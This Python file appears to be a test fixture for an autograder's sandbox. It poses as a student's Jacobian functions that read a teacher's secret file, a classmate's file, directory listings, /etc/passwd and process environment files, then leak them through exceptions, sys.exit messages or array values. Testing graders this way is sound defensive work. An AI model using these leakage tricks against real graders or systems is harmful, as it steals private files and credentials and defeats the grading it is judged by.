# ruff: noqa
# Read the teacher's files and a classmate's, and smuggle them into the report: in an
# exception's text, in sys.exit's message, as the digits of a returned "Jacobian".
# expect J_W3: raised
# expect J_b3: raised
# expect J_W2: raised
# expect J_b2: raised
# expect J_W1: raised
# expect J_b1: raised
import os
import sys

import numpy as np


def J_W3(x, y):
    raise RuntimeError(open("@@SECRET_FILE@@").read())


def J_b3(x, y):
    sys.exit(open("@@SECRET_FILE@@").read())


def J_W2(x, y):
    secret = open("@@SECRET_FILE@@", "rb").read()
    return np.array([[float(byte)] for byte in secret])


def J_b2(x, y):
    raise RuntimeError(open("@@CLASSMATE@@").read())


def J_W1(x, y):
    raise RuntimeError(repr(os.listdir("@@CLASS_DIR@@")) + repr(os.listdir(os.path.expanduser("~"))))


def J_b1(x, y):
    leaked = []
    for path in ("/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"):
        with open(path, "rb") as handle:
            leaked.append(handle.read())
    raise RuntimeError(repr(leaked))
